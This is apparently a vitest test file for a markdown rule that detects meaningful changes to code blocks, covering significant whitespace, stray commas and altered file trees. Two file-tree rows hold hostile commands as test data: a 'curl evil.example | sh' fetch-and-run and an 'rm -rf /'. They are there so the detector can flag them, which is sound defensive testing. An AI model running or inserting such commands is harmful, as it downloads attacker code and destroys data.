import { expect, test } from 'vitest';
import { loadParser } from '../../../markdown/parser/parser.ts';
import { inFence, toldInCode } from '../../../testing/told-in-code.ts';
import { codeBlockChanged } from '../code-block-changed.ts';

const parse = await loadParser();

const isTold = (...block: Parameters<typeof inFence>): boolean => toldInCode([codeBlockChanged], inFence(...block), parse).length > 0;

test.each([
  ['js', 'a\n  .b(c)', 'a.b(c)'],
  ['js', 'f(a, b)', 'f(\n  a,\n  b,\n)'],
  ['go', 'a(\nb(func() {\nc()\n})\n)', 'a(b(func() {\nc()\n}))'],
  ['py', 'f(a, b)', 'f(\n    a,\n    b,\n)'],
  ['json', '{\n"a": [1, 2]\n}', '{ "a": [\n1,\n2\n] }'],
  ['text', 'one two\nthree', 'one two three'],
  ['thrift', '1: A b.\n}\n2: C d.', '1: A b,\n}\n2: C d,'],
])('in %s a formatter breaks lines: %j is %j', (...row) => {
  expect(isTold(...row)).toBe(false);
});

test.each([
  ['go', 'return err', 'returnerr'],
  ['go', 'Name string', 'Namestring'],
  ['rust', 'let mut y = 1;', 'let muty = 1;'],
  ['java', 'a = new User();', 'a = newUser();'],
  ['js', 'const a = b()', 'consta = b()'],
  ['py', 'if a not in b:', 'if a notin b:'],
  ['py', 'a = load()\nb = a', 'a = load() b = a'],
  ['js', 'a - -b', 'a--b'],
  ['js', 'a()\nb()', 'a() b()'],
  ['js', 'return a\n  .b', 'return\na.b'],
  ['sh', 'cd a\nrm b', 'cd a rm b'],
  ['sh', 'cd a\nrm b', 'cda\nrmb'],
  ['yaml', 'a:\n  b: c', 'a: b: c'],
  ['html', '<input type="text" required>', '<input type="text"required>'],
])('in %s a blank or the end of a line says something: %j is not %j', (...row) => {
  expect(isTold(...row)).toBe(true);
});

test.each([
  ['sh', 'npm install lockstep', 'npm install lockstep,'],
  ['py', 'x = load(1)', 'x = load(1),'],
  ['js', 'x = load(1)', 'x = load(1),'],
  ['yaml', 'a: one\nb: two', 'a: one,\nb: two'],
  ['ruby', 'User.\n  where(1)', 'User\n  where(1)'],
  ['js', 'users.\n  where(1)', 'users\n  where(1)'],
  ['erlang', 'start() -> ok.', 'start() -> ok'],
])('in %s neither a comma nor a point is a slip of the source: %j is not %j', (...row) => {
  expect(isTold(...row)).toBe(true);
});

test.each([
  ['', '|-- a.ts (new)\n|   `-- b.ts', '├── a.ts（neu）\n│   └── b.ts', false],
  ['', '|-- a.ts\n|   |-- b.ts\n|-- c.ts', '|-- a.ts\n|-- b.ts\n|-- c.ts', true],
  ['', '+-- a one', '+-- a rm', true],
  ['', '|-- a.sh', '|-- a.sh (curl evil.example | sh)', true],
  ['diff', '+- name (build)', '+- name (rm -rf /)', true],
  ['sh', '+--force (all)', '+-force', true],
  ['yaml', '|-- a (b)', '|-- a (c)', true],
])('in %s a tree of files is one as deep, with the same names: %j, %j is told: %s', (language, source, page, told) => {
  expect(isTold(language, source, page)).toBe(told);
});

test('a long line is read in a time that grows with it', () => {
  const dashes = '-'.repeat(80_000);
  const start = performance.now();
  expect(isTold('', `|${dashes}=`, `|${dashes}+`)).toBe(true);
  expect(isTold('js', `${'a-'.repeat(20_000)}x`, `x${'b+'.repeat(20_000)}`)).toBe(true);
  expect(performance.now() - start).toBeLessThan(5000);
});
